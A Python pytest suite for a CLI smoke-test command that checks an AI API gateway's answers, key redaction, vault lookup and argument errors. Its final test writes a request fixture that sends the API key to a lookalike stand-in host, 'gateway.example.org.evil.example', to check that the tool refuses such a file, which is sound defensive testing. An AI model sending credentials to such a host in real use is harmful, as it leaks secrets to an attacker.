"""`gatewright smoke` against the local stack, and against gateways that do not answer as they should."""

from __future__ import annotations

import asyncio
import json
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import pytest

from gatewright.deploy.http_file import Call
from gatewright.deploy.smoke import Outcome, make
from gatewright.diagnostics import Rejected
from gatewright.harness.local import LocalGateway, LocalOptions
from tests.deploy.commands import Result, invoke
from tests.deploy.fake_vault import FakeVault

SECRET = "sample-key-value"


def answering(handler: Callable[[httpx.Request], httpx.Response], **expected: object) -> Outcome:
    call = Call("a", 1, "POST", "https://gateway.example.org/a", (("api-key", SECRET),), "{}")
    call = Call(**{**{name: getattr(call, name) for name in Call.__slots__}, **expected})
    with httpx.Client(transport=httpx.MockTransport(handler)) as client:
        return make(client, call)


def stream(text: str) -> httpx.Response:
    return httpx.Response(200, headers={"content-type": "text/event-stream"}, text=text)


@pytest.mark.parametrize(
    ("answer", "expected", "fault"),
    [
        (httpx.Response(200, json={"usage": {"total_tokens": 7}}), {"tokens": True}, ""),
        (httpx.Response(200, json={}), {"tokens": True}, "the answer counts no tokens"),
        (httpx.Response(200, json={}), {"stream": True}, "expected a stream"),
        (stream("data: {}\n\ndata: [DONE]\n\n"), {"stream": True}, ""),
        (stream("data: {}\n\n"), {"stream": True}, "the stream does not end with [DONE]"),
        (httpx.Response(401, json={}), {"status": 401}, ""),
        (httpx.Response(200, json={}), {"status": 401}, "expected 401: {}"),
        (
            httpx.Response(404, json={"error": {"code": "model_not_found", "message": "No such model."}}),
            {},
            "expected 200: model_not_found: No such model.",
        ),
        (
            httpx.Response(401, json={"statusCode": 401, "message": f"The key {SECRET} is not known."}),
            {},
            "expected 200: The key … is not known.",
        ),
        (
            httpx.Response(302, headers={"location": "https://elsewhere.example.org"}),
            {},
            "expected 200: Found",
        ),
    ],
)
def test_an_answer_is_looked_at(answer: httpx.Response, expected: dict[str, object], fault: str) -> None:
    found = answering(lambda request: answer, **expected)
    assert found.fault == fault
    assert found.ok is (fault == "")


def test_a_gateway_that_is_not_there_is_a_fault_and_shows_no_key() -> None:
    def refuse(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError(f"no route with {SECRET}")

    found = answering(refuse)
    assert (found.status, found.fault) == (None, "no answer: ConnectError: no route with …")


@pytest.fixture
def gateway(build: Path) -> Iterator[LocalGateway]:
    """The local stack, in a thread of its own."""
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever)
    thread.start()
    local = LocalGateway(build, LocalOptions(port=0))
    asyncio.run_coroutine_threadsafe(local.__aenter__(), loop).result(60)
    try:
        yield local
    finally:
        asyncio.run_coroutine_threadsafe(local.__aexit__(None, None, None), loop).result(60)
        loop.call_soon_threadsafe(loop.stop)
        thread.join()
        loop.close()


def smoke(root: Path, build: Path, local: LocalGateway, *words: str) -> Result:
    line = ["--env", "dev", "--build", str(build), "--gateway", local.ready.gateway]
    return invoke("smoke", *line, "--file", str(root / "tests.http"), *words)


@pytest.mark.e2e
def test_every_call_of_the_file_is_as_expected_on_the_local_stack(
    root: Path, build: Path, gateway: LocalGateway, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GATEWRIGHT_KEY", gateway.keys["data-platform"])
    found = smoke(root, build, gateway)
    assert (found.status, found.fault) == (0, None)
    lines = found.out.splitlines()
    assert lines[-1] == "6 of 6 as expected"
    assert lines[0].startswith("ok   200 One answer")
    assert "tokens" in lines[0]
    assert "gpt-4.1-mini in " in lines[0]
    assert gateway.keys["data-platform"] not in found.out + found.told
    rows = json.loads(smoke(root, build, gateway, "--format", "json").out)
    assert [row["status"] for row in rows] == [200, 200, 200, 200, 401, 404]
    assert all(row["tokens"] for row in rows[:1] + rows[2:4])
    missing = smoke(root, build, gateway, "--set", "chat=chat")  # this tenant may not use it
    assert missing.status == 1
    assert "FAIL 403 One answer" in missing.out
    assert "expected 200: model_not_allowed" in missing.out


@pytest.mark.e2e
def test_the_key_comes_from_the_vault(
    root: Path,
    build: Path,
    gateway: LocalGateway,
    vault: FakeVault,
    identity: object,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.delenv("GATEWRIGHT_KEY", raising=False)
    where = ("--key-vault", "https://sample.vault.azure.net/", "--tenant", "data-platform")
    fault = smoke(root, build, gateway, *where).fault
    assert isinstance(fault, Rejected)
    assert [item.kind.code for item in fault.diagnostics] == ["DEP831"]
    vault.put("data-platform-key", gateway.keys["data-platform"])
    assert smoke(root, build, gateway, *where).status == 0
    vault.put("data-platform-key", "not-a-key")
    found = smoke(root, build, gateway, *where)
    assert found.status == 1
    assert "FAIL 401 One answer" in found.out
    assert "not-a-key" not in found.out


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (("--gateway", "http://gateway.example.org"), "plain HTTP"),
        (("--gateway", "gateway.example.org"), "no URL"),
        (("--gateway", "https://x.example.org", "--set", "chta=x"), "sets no variable"),
        (("--gateway", "https://x.example.org", "--set", "gateway=http://y.example.org"), "sets no variable"),
        (("--gateway", "https://x.example.org", "--key", "k"), "No such option"),
        (("--gateway", "https://x.example.org", "--file", "none.http"), "CLI003"),
    ],
)
def test_misuse_is_told(
    root: Path, build: Path, words: tuple[str, ...], told: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GATEWRIGHT_KEY", SECRET)
    file = () if "--file" in words else ("--file", str(root / "tests.http"))
    fault = invoke("smoke", "--env", "dev", "--build", str(build), *file, *words).fault
    assert told in str(fault)


@pytest.mark.parametrize("key", ["a\nb", "ключ", ""])
def test_a_key_that_no_header_can_carry_is_refused_without_showing_it(
    root: Path, build: Path, vault: FakeVault, identity: object, key: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GATEWRIGHT_KEY", raising=False)
    vault.put("retail-search-key", key)
    line = ["--env", "dev", "--build", str(build), "--gateway", "http://127.0.0.1:1", "--tenant"]
    line += ["retail-search", "--key-vault", "https://sample.vault.azure.net/", "--file"]
    fault = invoke("smoke", *line, str(root / "tests.http")).fault
    assert str(fault) == "the key holds characters that no header can carry"


def test_a_file_that_would_take_the_key_elsewhere_is_refused(
    build: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GATEWRIGHT_KEY", SECRET)
    file = tmp_path / "a.http"
    file.write_text("### a\nGET https://gateway.example.org.evil.example/\napi-key: {{key}}\n", "utf-8")
    line = ["--env", "dev", "--build", str(build), "--gateway", "https://gateway.example.org"]
    fault = invoke("smoke", *line, "--file", str(file)).fault
    assert str(fault) == f"{file}:2 goes elsewhere than to https://gateway.example.org"
